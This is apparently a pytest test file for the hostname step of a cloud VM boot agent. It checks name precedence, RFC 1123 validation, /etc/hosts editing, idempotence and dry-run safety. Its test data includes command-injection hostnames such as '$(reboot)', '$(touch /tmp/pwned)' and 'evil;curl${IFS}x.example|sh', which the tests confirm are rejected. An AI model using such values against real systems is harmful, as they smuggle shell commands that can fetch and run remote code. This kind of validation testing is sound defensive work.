"""Step `hostname` on a real scratch root: precedence, validation, /etc/hostname and the one
managed /etc/hosts line, idempotence, dry-run, and the live hostname never touched off `/`."""

from __future__ import annotations

import os
import socket

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bootagent import config
from bootagent.boot import Boot
from bootagent.context import Context
from bootagent.errors import StepError
from bootagent.imds.document import parse_document
from bootagent.state import InstanceState
from bootagent.steps import hostname
from bootagent.steps.hostname import choose_hostname, valid_hostname
from conftest import b64, examples

MANAGED = "# managed by bootagent"


def make_boot(doc: dict) -> Boot:
    return Boot(parse_document(doc), InstanceState({"steps": {}}))


def with_names(document: dict, *, computer_name=None, name=None, user_data=None) -> dict:
    compute = document["compute"]
    compute["osProfile"].pop("computerName", None)
    compute.pop("userData", None)
    compute["name"] = name if name is not None else ""
    if computer_name is not None:
        compute["osProfile"]["computerName"] = computer_name
    if user_data is not None:
        compute["userData"] = b64(user_data)
    return document


@pytest.fixture
def no_sethostname(monkeypatch):
    """Record calls of the one syscall the step may make; fail the test if it is made."""
    calls = []
    monkeypatch.setattr(socket, "sethostname", lambda name: calls.append(name))
    return calls


def snapshot(root) -> dict:
    return {name: ((root / "etc" / name).read_bytes(), (root / "etc" / name).stat().st_mtime_ns)
            for name in ("hostname", "hosts")}


# --- valid_hostname -------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["a", "web-01", "Web01", "WEB01.Example.COM", "1host", "a" * 63,
                                  ".".join(["a" * 63] * 3 + ["b" * 61]), "x-y.z-1.example"])
def test_valid_names(name):
    assert valid_hostname(name)


@pytest.mark.parametrize("name", ["", "-a", "a-", "a_b", "a b", "a;reboot", "$(reboot)", "a`id`",
                                  "a|b", "a&&b", "a\nb", "a\n", "a" * 64, "ok." + "b" * 64,
                                  ".".join(["a" * 63] * 3 + ["b" * 62]), "a..b", ".a", "a.",
                                  "bücher", "a/b", None, 42, ["a"]])
def test_invalid_names(name):
    assert not valid_hostname(name)


@settings(max_examples=examples(200), deadline=None)
@given(st.one_of(st.text(max_size=300), st.binary(max_size=20), st.integers(), st.none()))
def test_valid_hostname_is_total(value):
    assert valid_hostname(value) in (True, False)


LABEL = st.from_regex(r"\A[A-Za-z0-9]([A-Za-z0-9-]{0,61}[A-Za-z0-9])?\Z")


@settings(max_examples=examples(100), deadline=None)
@given(st.lists(LABEL, min_size=1, max_size=4))
def test_dotted_rfc1123_labels_are_valid(labels):
    name = ".".join(labels)
    assert valid_hostname(name) == (len(name) <= 253)


@settings(max_examples=examples(100), deadline=None)
@given(st.text(min_size=1, max_size=40), st.characters(exclude_characters=
       "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789.-"))
def test_any_other_character_makes_it_invalid(text, bad):
    assert not valid_hostname(text[: len(text) // 2] + bad + text[len(text) // 2:])


# --- choose_hostname ------------------------------------------------------------------------

def test_precedence(document):
    doc = with_names(document, computer_name="from-profile", name="from-compute",
                     user_data="#cloud-config\nhostname: from-userdata\n")
    assert choose_hostname(parse_document(doc), {"hostname": "from-userdata"}) == \
        ("from-userdata", "userData hostname")
    assert choose_hostname(parse_document(doc), {}) == ("from-profile", "compute.osProfile.computerName")
    doc = with_names(document, name="from-compute")
    assert choose_hostname(parse_document(doc), {}) == ("from-compute", "compute.name")


def test_scale_set_name_is_not_a_source(document):
    doc = with_names(document, name="myscaleset_0")
    name, reason = choose_hostname(parse_document(doc), {})
    assert name is None and "compute.name" in reason


def test_invalid_userdata_hostname_names_the_source_not_the_value(document):
    secret = "evil;curl${IFS}x.example|sh"
    with pytest.raises(StepError) as caught:
        choose_hostname(parse_document(with_names(document, computer_name="fine")), {"hostname": secret})
    assert "userData hostname" in str(caught.value)
    assert secret not in str(caught.value) and "curl" not in str(caught.value)


def test_invalid_computer_name_is_an_error_naming_the_field(document):
    with pytest.raises(StepError) as caught:
        choose_hostname(parse_document(with_names(document, computer_name="x" * 5000)), {})
    assert "compute.osProfile.computerName" in str(caught.value)
    assert len(str(caught.value)) < 400 and "\n" not in str(caught.value)


# --- update_hosts ---------------------------------------------------------------------------

def test_hosts_keeps_every_other_line_byte_for_byte():
    current = b"127.0.0.1 localhost\r\n# a comment  \r\n10.0.0.5\tdb.internal db\r\n10.0.0.6 last"
    updated = hostname.update_hosts(current, "web01.example.com")
    assert updated == (b"127.0.0.1 localhost\r\n# a comment  \r\n10.0.0.5\tdb.internal db\r\n"
                       b"127.0.1.1\tweb01.example.com web01\t# managed by bootagent\n10.0.0.6 last")
    assert hostname.update_hosts(updated, "web01.example.com") == updated


def test_hosts_managed_line_goes_before_the_images_127_0_1_1_line_and_is_replaced_later():
    current = b"127.0.0.1\tlocalhost\n127.0.1.1\tdebian\n::1\tip6-localhost\n"
    first = hostname.update_hosts(current, "one")
    assert first == (b"127.0.0.1\tlocalhost\n127.0.1.1\tone\t# managed by bootagent\n"
                     b"127.0.1.1\tdebian\n::1\tip6-localhost\n")
    second = hostname.update_hosts(first + b"127.0.1.1\tstale\t# managed by bootagent\n", "Two")
    assert second == first.replace(b"\tone\t", b"\tTwo\t")


# --- run ------------------------------------------------------------------------------------

def test_first_and_second_run(make_ctx, root, document, no_sethostname):
    (root / "etc/hosts").write_bytes(b"127.0.0.1 localhost\r\n10.1.2.3 nas\r\n192.168.0.1 router")
    ctx = make_ctx()
    boot = make_boot(document)
    result = hostname.run(ctx, boot)
    assert (result.status, result.changed) == ("changed", ["/etc/hostname", "/etc/hosts"])
    assert boot.hostname == "demo-vm-01"
    assert (root / "etc/hostname").read_bytes() == b"demo-vm-01\n"
    assert (root / "etc/hosts").read_bytes() == (
        b"127.0.0.1 localhost\r\n10.1.2.3 nas\r\n127.0.1.1\tdemo-vm-01\t# managed by bootagent\n"
        b"192.168.0.1 router")
    for name in ("hostname", "hosts"):
        info = (root / "etc" / name).stat()
        assert (info.st_mode & 0o7777, info.st_uid, info.st_gid) == (0o644, 0, 0)
    before = snapshot(root)
    again = make_boot(document)
    assert hostname.run(make_ctx(), again).status == "unchanged"
    assert again.hostname == "demo-vm-01"
    assert snapshot(root) == before
    assert no_sethostname == []


def test_new_name_replaces_the_managed_line(make_ctx, root, document):
    hostname.run(make_ctx(), make_boot(document))
    doc = with_names(document, computer_name="Renamed.Example.org")
    result = hostname.run(make_ctx(), make_boot(doc))
    assert result.status == "changed"
    hosts = (root / "etc/hosts").read_text()
    assert [line for line in hosts.splitlines() if MANAGED in line] == \
        ["127.0.1.1\tRenamed.Example.org Renamed\t# managed by bootagent"]
    assert hosts.startswith("127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n")
    assert (root / "etc/hostname").read_text() == "Renamed.Example.org\n"


def test_userdata_hostname_wins(make_ctx, root, document):
    doc = with_names(document, computer_name="profile", name="compute",
                     user_data="#cloud-config\nhostname: From-UserData\n")
    boot = make_boot(doc)
    assert hostname.run(make_ctx(), boot).status == "changed"
    assert (root / "etc/hostname").read_text() == "From-UserData\n"
    assert boot.hostname == "From-UserData"


@pytest.mark.parametrize("bad", ["demo;reboot", "$(touch /tmp/pwned)", "a b", "x" * 64,
                                 "ok." + "y" * 64 + ".example", "trailing-"])
def test_hostile_computer_name_fails_and_writes_nothing(make_ctx, root, document, bad):
    before = snapshot(root)
    boot = make_boot(with_names(document, computer_name=bad))
    with pytest.raises(StepError) as caught:
        hostname.run(make_ctx(), boot)
    assert "compute.osProfile.computerName" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert snapshot(root) == before
    assert boot.hostname is None


def test_invalid_userdata_hostname_fails_without_quoting_it(make_ctx, root, document):
    before = snapshot(root)
    doc = with_names(document, computer_name="fine",
                     user_data="#cloud-config\nhostname: 'secret-token;$(id)'\n")
    with pytest.raises(StepError) as caught:
        hostname.run(make_ctx(), make_boot(doc))
    assert "userData hostname" in str(caught.value)
    assert "secret-token" not in str(caught.value) and "$(id)" not in str(caught.value)
    assert snapshot(root) == before


def test_no_source_is_skipped(make_ctx, root, document):
    before = snapshot(root)
    result = hostname.run(make_ctx(), make_boot(with_names(document, name="vmss_1")))
    assert result.status == "skipped" and result.reason
    assert snapshot(root) == before


def test_disabled_in_config_is_skipped(make_ctx, root, document):
    result = hostname.run(make_ctx(config={"hostname": {"enabled": False}}), make_boot(document))
    assert result.status == "skipped"
    assert (root / "etc/hostname").read_text() == "localhost\n"


def test_dry_run_changes_nothing_and_records_diffs(make_ctx, root, document, no_sethostname):
    before = snapshot(root)
    ctx = make_ctx(dry_run=True)
    boot = make_boot(document)
    result = hostname.run(ctx, boot)
    assert result.status == "changed" and boot.hostname == "demo-vm-01"
    assert snapshot(root) == before
    diffs = dict(ctx.changes)
    assert "+demo-vm-01" in diffs["/etc/hostname"]
    assert "+127.0.1.1\tdemo-vm-01\t# managed by bootagent" in diffs["/etc/hosts"]
    assert no_sethostname == []


def test_dry_run_on_the_live_root_never_sets_the_hostname(document, no_sethostname):
    """Root `/` in dry-run: the one configuration where a bug would reach the kernel."""
    ctx = Context(root="/", config=config.defaults(), dry_run=True)
    assert ctx.live
    boot = make_boot(with_names(document, computer_name="bootagent-test-never-set"))
    assert hostname.run(ctx, boot).status == "changed"
    assert boot.hostname == "bootagent-test-never-set"
    assert no_sethostname == []


def test_missing_hosts_file_is_created_with_localhost(make_ctx, root, document):
    os.unlink(root / "etc/hosts")
    hostname.run(make_ctx(), make_boot(document))
    assert (root / "etc/hosts").read_text() == (
        "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n"
        "127.0.1.1\tdemo-vm-01\t# managed by bootagent\n")
